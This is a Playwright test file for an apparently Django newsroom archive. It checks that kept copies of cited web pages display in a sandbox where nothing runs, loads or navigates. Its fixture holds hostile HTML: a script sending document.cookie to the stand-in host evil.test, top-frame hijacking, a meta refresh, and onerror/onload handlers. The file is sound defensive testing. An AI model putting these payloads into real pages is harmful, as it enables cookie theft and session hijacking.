"""A kept copy at the desk, in a real browser, with each of its two walls taken away in turn."""

from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest
from django.core.cache import cache
from playwright.sync_api import expect

from diurna.accounts.roles import Role
from diurna.newsroom.archive import links, replay, warc
from diurna.newsroom.models import Source
from tests.factories.cited_site import CitedSite, Page, cited_site
from tests.factories.desk import at_desk
from tests.factories.newsroom import make_front

if TYPE_CHECKING:
    from playwright.sync_api import Page as BrowserPage
    from playwright.sync_api import Route

HOSTILE = b"""<!doctype html><html><head><base href="https://evil.test/">
<meta http-equiv="refresh" content="0;url=https://evil.test/refreshed">
<link rel="stylesheet" href="https://evil.test/style.css"></head><body>
<h1 id="words">Kept words</h1>
<script>
  top.hacked = 1; parent.document.title = 'hacked';
  fetch('/newsroom/'); new Image().src = 'https://evil.test/?' + document.cookie;
  localStorage.x = 1; top.location = 'https://evil.test/top'; window.open('https://evil.test/open');
</script>
<img src="https://evil.test/picture" onerror="parent.document.title = 'hacked'">
<svg onload="parent.document.title = 'hacked'"></svg>
<iframe src="https://evil.test/inner"></iframe><object data="https://evil.test/object"></object>
<form action="https://evil.test/form"><button id="send">Send</button></form>
<a id="away" href="https://evil.test/away">Away</a>
<a id="top" href="https://evil.test/top" target="_top">Top</a></body></html>"""


@pytest.fixture
def site(monkeypatch: pytest.MonkeyPatch) -> Iterator[CitedSite]:
    with cited_site(monkeypatch) as found:
        yield found


def test_nothing_in_a_copy_acts_loads_or_leads_anywhere(
    live_site: str, site: CitedSite, browser_page: "BrowserPage", monkeypatch: pytest.MonkeyPatch
) -> None:
    cache.clear()
    make_front(site_url=live_site)
    site.pages["/a"] = Page(HOSTILE)
    source = Source.objects.create(title="The report", address=site.url("/a"))
    links.visit(source, by_hand=True)
    copy = source.copies.get()
    page = browser_page
    client, _ = at_desk(Role.PUBLISHER)
    page.context.add_cookies(
        [
            {"name": name, "value": cookie.value, "url": live_site}
            for name, cookie in client.cookies.items()
        ]
    )
    asked: list[str] = []

    def leave(route: "Route") -> None:
        # What the policy refuses never gets so far.
        asked.append(route.request.url)
        route.abort()

    page.context.route("https://evil.test/**", leave)
    address = f"{live_site}/newsroom/sources/copies/{copy.uuid}/"
    page.goto(address)
    frame = page.frame_locator("iframe.sources__copy")
    expect(frame.get_by_role("heading", name="Kept words")).to_be_visible()
    expect(frame.locator("a, form, img, svg, iframe, object, script")).to_have_count(0)

    # Without the allow list, the sandbox and the policy hold alone.
    def as_it_came(found: warc.Page) -> str:
        return found.body.decode()

    monkeypatch.setattr(replay, "shown", as_it_came)
    for name in ("#send", "#away", "#top"):
        page.goto(address)
        expect(frame.locator("#words")).to_be_visible()
        frame.locator(name).click(no_wait_after=True)
        page.wait_for_timeout(150)
    assert page.title() != "hacked"
    assert page.evaluate("window.hacked") is None
    expect(page).to_have_url(address)
    assert len(page.context.pages) == 1
    assert asked == []

    # Nor when somebody opens the frame's address by itself: no script, and not the desk's origin.
    page.goto(f"{address}page/")
    page.wait_for_timeout(150)
    assert page.evaluate("self.origin") == "null"
    assert asked == []
